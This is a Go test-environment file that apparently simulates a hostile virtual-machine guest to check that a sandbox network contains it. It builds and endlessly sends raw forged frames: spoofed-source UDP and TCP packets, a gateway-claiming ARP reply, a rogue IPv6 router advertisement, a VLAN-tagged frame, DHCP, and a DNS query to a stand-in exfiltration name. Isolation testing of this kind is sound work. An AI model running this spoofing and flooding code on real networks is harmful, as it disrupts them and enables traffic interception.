package real

import (
	"encoding/binary"
	"net"
	"net/netip"
	"time"

	"github.com/miekg/dns"
	"golang.org/x/sys/unix"

	"github.com/emberd/emberd/internal/testenv/internet"
)

// What a guest floods its network with: nothing of it may be sent to anybody.
var (
	floodUDP  = netip.MustParseAddrPort("203.0.113.250:9")
	floodTCP  = netip.MustParseAddrPort("203.0.113.251:443")
	floodPing = netip.MustParseAddr("203.0.113.252")
	// floodName is asked for, of the gateway and of everybody else.
	floodName = "secret.exfil.test"
)

// The gateway, as every guest knows it.
var (
	gatewayMAC = net.HardwareAddr{0x02, 0x65, 0x6d, 0, 0, 1}
	gatewayIP  = netip.MustParseAddr("100.64.0.1")
	broadcast  = net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}
)

// floodForever sends frames on every interface that there is, from the moment that there
// is one, and does not end.
func floodForever() {
	for {
		links, _ := net.Interfaces()
		for _, l := range links {
			if l.Flags&net.FlagLoopback == 0 && len(l.HardwareAddr) == 6 {
				floodLink(l)
			}
		}
		time.Sleep(100 * time.Millisecond) // for the one processor of the machine
	}
}

func floodLink(l net.Interface) {
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return
	}
	defer func() { _ = unix.Close(fd) }()
	if ifr, err := unix.NewIfreq(l.Name); err == nil && l.Flags&net.FlagUp == 0 {
		ifr.SetUint16(unix.IFF_UP | unix.IFF_RUNNING)
		_ = unix.IoctlIfreq(fd, unix.SIOCSIFFLAGS, ifr)
	}
	own := netip.MustParseAddr("100.64.0.9")
	if addrs, _ := l.Addrs(); len(addrs) > 0 {
		if p, err := netip.ParsePrefix(addrs[0].String()); err == nil && p.Addr().Is4() {
			own = p.Addr()
		}
	}
	for _, frame := range hostileFrames(l.HardwareAddr, own) {
		_ = unix.Sendto(fd, frame, unix.MSG_DONTWAIT, &unix.SockaddrLinklayer{Ifindex: l.Index, Halen: 6})
	}
}

// hostileFrames are frames of a guest with that MAC and address, true and forged.
func hostileFrames(mac net.HardwareAddr, own netip.Addr) (frames [][]byte) {
	query, _ := new(dns.Msg).SetQuestion(floodName+".", dns.TypeA).Pack()
	sources := []netip.Addr{own, gatewayIP, netip.MustParseAddr("203.0.113.10"), internet.Here}
	for _, src := range sources {
		for _, to := range []net.HardwareAddr{gatewayMAC, broadcast} {
			frames = append(frames,
				ether(to, mac, 0x0800, ip4(src, floodUDP.Addr(), unix.IPPROTO_UDP, udpDatagram(src, floodUDP, []byte("out")))),
				ether(to, mac, 0x0800, ip4(src, floodTCP.Addr(), unix.IPPROTO_TCP, syn(src, floodTCP))),
				ether(to, mac, 0x0800, ip4(src, internet.Resolver.Addr(), unix.IPPROTO_UDP, udpDatagram(src, internet.Resolver, query))),
			)
		}
	}
	atGateway := netip.AddrPortFrom(gatewayIP, 53)
	frames = append(frames,
		ether(gatewayMAC, mac, 0x0800, ip4(own, gatewayIP, unix.IPPROTO_UDP, udpDatagram(own, atGateway, query))),
		ether(gatewayMAC, mac, 0x0800, ip4(own, floodPing, unix.IPPROTO_ICMP, []byte{8, 0, 0xf7, 0xff, 0, 0, 0, 0})),
		ether(gatewayMAC, gatewayMAC, 0x0800, ip4(own, floodUDP.Addr(), unix.IPPROTO_UDP, udpDatagram(own, floodUDP, []byte("forged")))),
		ether(broadcast, mac, 0x0806, arp(mac, gatewayIP)),
		ether(gatewayMAC, mac, 0x8100, append([]byte{0, 5, 8, 0}, ip4(own, floodUDP.Addr(), unix.IPPROTO_UDP, udpDatagram(own, floodUDP, []byte("vlan")))...)),
		ether(net.HardwareAddr{0x33, 0x33, 0, 0, 0, 1}, mac, 0x86dd, ip6("fe80::1", "ff02::1", unix.IPPROTO_ICMPV6, []byte{134, 0, 0, 0, 64, 0, 7, 8, 0, 0, 0, 0, 0, 0, 0, 0})),
		ether(gatewayMAC, mac, 0x86dd, ip6("2001:db8::66", "2001:db8::10", unix.IPPROTO_UDP, udpDatagram(own, floodUDP, []byte("six")))),
		ether(broadcast, mac, 0x0800, ip4(netip.IPv4Unspecified(), netip.MustParseAddr("255.255.255.255"), unix.IPPROTO_UDP, udpDatagram(own, netip.MustParseAddrPort("255.255.255.255:67"), make([]byte, 240)))),
	)
	return frames
}

func ether(to, from net.HardwareAddr, kind uint16, payload []byte) []byte {
	return append(binary.BigEndian.AppendUint16(append(append([]byte(nil), to...), from...), kind), payload...)
}

func ip4(src, dst netip.Addr, proto byte, payload []byte) []byte {
	h := []byte{0x45, 0, 0, 0, 0, 1, 0, 0, 64, proto, 0, 0}
	binary.BigEndian.PutUint16(h[2:], uint16(20+len(payload)))
	h = append(append(h, src.AsSlice()...), dst.AsSlice()...)
	binary.BigEndian.PutUint16(h[10:], checksum(h))
	return append(h, payload...)
}

func ip6(src, dst string, proto byte, payload []byte) []byte {
	h := []byte{0x60, 0, 0, 0, 0, 0, proto, 255}
	binary.BigEndian.PutUint16(h[4:], uint16(len(payload)))
	h = append(h, netip.MustParseAddr(src).AsSlice()...)
	return append(append(h, netip.MustParseAddr(dst).AsSlice()...), payload...)
}

// udpDatagram has no checksum, as IPv4 allows.
func udpDatagram(_ netip.Addr, to netip.AddrPort, payload []byte) []byte {
	h := []byte{0x9c, 0x40, 0, 0, 0, 0, 0, 0}
	binary.BigEndian.PutUint16(h[2:], to.Port())
	binary.BigEndian.PutUint16(h[4:], uint16(8+len(payload)))
	return append(h, payload...)
}

func syn(src netip.Addr, to netip.AddrPort) []byte {
	h := []byte{0x9c, 0x41, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0x50, 2, 0xff, 0xff, 0, 0, 0, 0}
	binary.BigEndian.PutUint16(h[2:], to.Port())
	pseudo := append(append(src.AsSlice(), to.Addr().AsSlice()...), 0, unix.IPPROTO_TCP, 0, byte(len(h)))
	binary.BigEndian.PutUint16(h[16:], checksum(append(pseudo, h...)))
	return h
}

// arp says that an address is at mac, to everybody.
func arp(mac net.HardwareAddr, addr netip.Addr) []byte {
	b := append([]byte{0, 1, 8, 0, 6, 4, 0, 2}, mac...)
	return append(append(append(b, addr.AsSlice()...), broadcast...), addr.AsSlice()...)
}

func checksum(b []byte) uint16 {
	var sum uint32
	for i := 0; i+1 < len(b); i += 2 {
		sum += uint32(binary.BigEndian.Uint16(b[i:]))
	}
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	return ^uint16(sum)
}
